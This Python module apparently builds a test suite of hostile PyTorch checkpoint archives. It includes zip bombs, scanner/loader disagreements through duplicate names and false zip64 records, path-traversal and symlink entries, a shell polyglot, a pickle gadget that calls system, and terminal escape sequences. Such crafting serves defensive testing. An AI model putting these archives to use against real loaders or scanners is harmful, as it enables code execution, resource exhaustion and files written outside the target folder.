"""Archives in which two readers see two contents, or which claim more than they are."""

from __future__ import annotations

import io
import os
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import torch

from attacks import attack, register

LOCAL, CENTRAL, END = b"PK\3\4", b"PK\1\2", b"PK\5\6"
END_64 = b"PK\6\6"


def innocent() -> bytes:
    """An archive of torch.save: one tensor of a hundred floats."""
    out = io.BytesIO()
    torch.save({"x": torch.arange(100.0)}, out)
    return out.getvalue()


def records() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(innocent())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def stored(entries: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name), data, compression)
    return out.getvalue()


def patched(content: bytes, find: bytes, at: int, new: bytes, nth: int = 0) -> bytes:
    """``content`` with ``new`` at ``at`` bytes behind the beginning of the ``nth`` occurrence of ``find``."""
    position = -1
    for _ in range(nth + 1):
        position = content.index(find, position + 1)
    position += at
    return content[:position] + new + content[position + len(new) :]


def written(folder: Path, content: bytes) -> Path:
    path = folder / "x.pt"
    path.write_bytes(content)
    return path


def hostile(name: str, sentence: str, content: bytes) -> None:
    register(lambda folder: written(folder, content), f"zips.{name}", sentence)


def places(content: bytes, magic: bytes) -> Iterator[int]:
    at = content.find(magic)
    while at >= 0:
        yield at
        at = content.find(magic, at + 1)


@attack
def overlapping_records(folder: Path) -> Path:
    """Two entries of the directory share one record, so that a few bytes stand for many."""
    content = stored([*records().items()])
    offset = struct.unpack_from("<L", content, content.index(CENTRAL) + 42)[0]
    return written(folder, patched(content, CENTRAL, 42, struct.pack("<L", offset), nth=1))


@attack
def overlapping_many(folder: Path) -> Path:
    """A thousand entries point to the same megabyte: a gigabyte in a file of one."""
    kept = [(name, data) for name, data in records().items() if not name.endswith("/data/0")]
    content = stored([("archive/data/0", bytes(1 << 20)), *kept])
    begin = content.index(CENTRAL)
    first = content[begin : content.index(CENTRAL, begin + 1)]
    copies = b"".join(first.replace(b"archive/data/0", b"archive/%06d" % n) for n in range(1000))
    directory = copies + content[begin : content.index(END)]
    count = 1000 + content.count(CENTRAL)
    end = struct.pack("<4s4H2LH", END, 0, 0, count, count, len(directory), begin, 0)
    return written(folder, content[:begin] + directory + end)


@attack
def duplicate_names(folder: Path) -> Path:
    """Two records have one name: a scanner looks at the first, a loader takes the last."""
    entries = [*records().items()]
    return written(folder, stored([*entries, next(e for e in entries if e[0].endswith("data.pkl"))]))


@attack
def duplicate_names_but_for_case(folder: Path) -> Path:
    """torch looks records up without regard to case: data.pkl may be DATA.PKL."""
    entries = [*records().items()]
    return written(folder, stored([*entries, ("archive/DATA.PKL", b"N.")]))


@attack
def compressed_bomb(folder: Path) -> Path:
    """A compressed record of 256 MiB in a file of 256 KiB."""
    entries = {**records(), "archive/data/0": bytes(256 << 20)}
    return written(folder, stored([*entries.items()], zipfile.ZIP_DEFLATED))


@attack
def compressed_pickle(folder: Path) -> Path:
    """Only the pickle is compressed, so a scan of the file's bytes does not see the names in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in records().items():
            archive.writestr(name, data, zipfile.ZIP_DEFLATED if name.endswith(".pkl") else zipfile.ZIP_STORED)
    return written(folder, out.getvalue())


hostile(
    "huge_claim",
    "The directory claims 2 GiB for a record of 400 bytes.",
    patched(innocent(), CENTRAL, 20, struct.pack("<2L", 2**31, 2**31), nth=1),
)


@attack
def huge_claim_zip64(folder: Path) -> Path:
    """The same with 2^62 bytes, by a zip64 extra field."""
    content = stored([*records().items()])
    at = content.index(CENTRAL)
    name_len = struct.unpack_from("<H", content, at + 28)[0]
    content = patched(content, CENTRAL, 20, b"\xff" * 8)
    content = patched(content, CENTRAL, 30, struct.pack("<H", 20))
    extra = struct.pack("<2H2Q", 1, 16, 2**62, 2**62)
    content = content[: at + 46 + name_len] + extra + content[at + 46 + name_len :]
    length = struct.unpack_from("<L", content, content.index(END) + 12)[0] + len(extra)
    return written(folder, patched(content, END, 12, struct.pack("<L", length)))


@attack
def zip64_end_lies(folder: Path) -> Path:
    """The zip64 end record names another directory than the old one: two readers, two contents."""
    content = innocent()
    at = content.index(END)
    count, length, offset = struct.unpack_from("<H2L", content, at + 10)
    end_64 = struct.pack("<4sQ2H2L4Q", END_64, 44, 45, 45, 0, 0, count - 1, count - 1, length, offset)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, at, 1)
    return written(folder, content[:at] + end_64 + locator + content[at:])


@attack
def zip64_overflow(folder: Path) -> Path:
    """Offset and length of the zip64 directory overflow 64 bits to a place inside the file."""
    content = innocent()
    at = content.index(END)
    end_64 = struct.pack("<4sQ2H2L4Q", END_64, 44, 45, 45, 0, 0, 4, 4, 2**64 - 10, at + 10)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, at, 1)
    end = struct.pack("<4s4H2LH", END, 0, 0, 4, 4, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return written(folder, content[:at] + end_64 + locator + end)


@attack
def a_million_entries(folder: Path) -> Path:
    """The end record claims a million entries, the directory has five."""
    content = innocent()
    at = content.index(END)
    _, length, offset = struct.unpack_from("<H2L", content, at + 10)
    end_64 = struct.pack("<4sQ2H2L4Q", END_64, 44, 45, 45, 0, 0, 10**6, 10**6, length, offset)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, at, 1)
    end = struct.pack("<4s4H2LH", END, 0, 0, 0xFFFF, 0xFFFF, length, offset, 0)
    return written(folder, content[:at] + end_64 + locator + end)


hostile(
    "parent_folder_in_a_name",
    "A record that would be unpacked above the folder.",
    stored([*records().items(), ("archive/../../outside/planted", b"x")]),
)
hostile("absolute_name", "A record with an absolute name.", stored([*records().items(), ("/tmp/planted", b"x")]))
hostile(
    "backslashes_in_a_name",
    "A record that climbs on machines where a backslash divides folders.",
    stored([*records().items(), ("archive/..\\..\\planted", b"x")]),
)


@attack
def nul_in_a_name(folder: Path) -> Path:
    """A name that ends early for readers in C."""
    content = stored([*records().items(), ("archive/data.pklX", b"cos\nsystem\n")])
    return written(folder, content.replace(b"data.pklX", b"data.pkl\0"))


hostile(
    "symlink_record",
    "A record that unpacks as a symbolic link to a file outside.",
    patched(innocent(), CENTRAL, 38, struct.pack("<L", 0o120777 << 16)),
)


@attack
def folder_with_data(folder: Path) -> Path:
    """A record that is a folder by DOS's attributes, and so has no data for torch, which takes what was in memory."""
    content = innocent()
    version = content.rindex(b"archive/version") - 46
    return written(folder, content[: version + 38] + b"\x10" + content[version + 39 :])


hostile(
    "encrypted_record",
    "A record that no scanner can look into.",
    patched(patched(innocent(), LOCAL, 6, b"\x09"), CENTRAL, 8, b"\x09"),
)
hostile(
    "shell_in_front", "A polyglot: the shell runs what torch loads.", b"#!/bin/sh\ntouch canary\nexit\n" + innocent()
)
hostile(
    "zip_behind",
    "Two archives in one file: readers that begin at the front see the first, zip tools the second.",
    innocent() + stored([("archive/data.pkl", b"N.")]),
)


@attack
def zip_in_the_comment(folder: Path) -> Path:
    """An archive inside the comment of another one."""
    inner = stored([("archive/data.pkl", b"N.")])
    return written(folder, patched(innocent(), END, 20, struct.pack("<H", len(inner))) + inner)


@attack
def script_between_records(folder: Path) -> Path:
    """Bytes that belong to no record."""
    content = innocent()
    at = content.index(CENTRAL)
    offset = struct.unpack_from("<L", content, content.index(END) + 16)[0]
    junk = b"\n<script>alert(1)</script>\n"
    return written(folder, patched(content[:at] + junk + content[at:], END, 16, struct.pack("<L", offset + len(junk))))


@attack
def tar_with_a_zip_inside(folder: Path) -> Path:
    """A tar file that ends as a zip archive: torch once read both."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        member = tarfile.TarInfo("../outside/planted")
        member.size = 5
        tar.addfile(member, io.BytesIO(b"tried"))
    return written(folder, out.getvalue() + innocent())


@attack
def tar_that_begins_like_a_legacy_file(folder: Path) -> Path:
    """torch < 0.1.10 wrote tar files, which torch.load unpacks: the first member's name is the magic number."""
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name in ("storages", "tensors", "pickle", "../outside/planted"):
            member = tarfile.TarInfo(name)
            member.size = 5
            tar.addfile(member, io.BytesIO(b"\x80\x02K\x00."))
    head = bytearray(out.getvalue())
    head[: len(magic)] = magic
    head[148:156] = b"        "
    head[148:156] = b"%06o\0 " % sum(head[:512])
    return written(folder, bytes(head))


@attack(large="torch.load reads it")
def legacy_file_that_claims_a_terabyte(folder: Path) -> Path:
    """A file of torch < 1.6 whose storage has 2^40 elements and no bytes."""
    out = io.BytesIO()
    torch.save({"x": torch.zeros(0x1234567)[:1].clone()}, out, _use_new_zipfile_serialization=False)
    content = out.getvalue()
    at = content.index(b"cpu") + len(b"cpu")
    number = content.index(b"K\x01", at)
    return written(folder, content[:number] + b"\x8a\x06" + (1 << 40).to_bytes(6, "little") + content[number + 2 :])


@attack(trap=True)
def legacy_file_with_a_gadget(folder: Path) -> Path:
    """The magic number of old files, then a pickle that calls."""
    from attacks.pickles import system

    head = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}."
    return written(folder, head + system(folder))


hostile(
    "without_a_version",
    "An archive that torch refuses and another reader takes.",
    stored([(n, data) for n, data in records().items() if not n.endswith("/version")]),
)
hostile(
    "version_of_the_future",
    "The same by a version that is text, and too large.",
    stored([(n, b"99\n" if n.endswith("/version") else data) for n, data in records().items()]),
)


@attack
def alignment_in_words(folder: Path) -> Path:
    """The same by a number that is none."""
    kept = [(n, data) for n, data in records().items() if not n.endswith("/.storage_alignment")]
    return written(folder, stored([*kept, ("archive/.storage_alignment", b"64\x0f")]))


hostile(
    "torchscript",
    "An archive whose code torch.jit would run.",
    stored([*records().items(), ("archive/constants.pkl", b"\x80\x02).")]),
)


@attack
def sparse_byteorder(folder: Path) -> Path:
    """A record of a terabyte that is a hole: it costs nothing on the disk, and memory where it is read."""
    path = folder / "x.pt"
    size = 1 << 40
    names = [(b"archive/data.pkl", b"\x80\x02N."), (b"archive/byteorder", None)]
    directory = b""
    with path.open("wb") as file:
        for name, data in names:
            offset = file.tell()
            big = data is None
            crc = 0 if data is None else zlib.crc32(data)
            nbytes = size if data is None else len(data)
            told = 0xFFFFFFFF if big else nbytes
            extra = struct.pack("<2H2Q", 1, 16, nbytes, nbytes) if big else b""
            file.write(struct.pack("<4s5H3L2H", LOCAL, 45, 0, 0, 0, 33, crc, told, told, len(name), len(extra)))
            file.write(name + extra + (data or b""))
            if big:
                file.seek(nbytes, os.SEEK_CUR)
            directory += struct.pack(
                "<4s6H3L5H2L", CENTRAL, 45, 45, 0, 0, 0, 33, crc, told, told, len(name), len(extra), 0, 0, 0, 0, offset
            )
            directory += name + extra
        begin = file.tell()
        end_64 = struct.pack("<4sQ2H2L4Q", END_64, 44, 45, 45, 0, 0, 2, 2, len(directory), begin)
        locator = struct.pack("<4sLQL", b"PK\6\7", 0, begin + len(directory), 1)
        end = struct.pack("<4s4H2LH", END, 0, 0, 2, 2, len(directory), 0xFFFFFFFF, 0)
        file.write(directory + end_64 + locator + end)
    return path


@attack
def escapes_in_record_names(folder: Path) -> Path:
    """A name that clears the screen and renames the terminal's window, in a record that is damaged."""
    from attacks.pickles import archive, tensor

    key = "0\x1b[2J\x1b]0;owned\x07"
    path = archive(folder, {"x": tensor(key=key)}, {f"data/{key}": bytes(16)})
    content = path.read_bytes()
    at = content.index(bytes(16))
    return written(folder, content[:at] + b"\1" + content[at + 1 :])
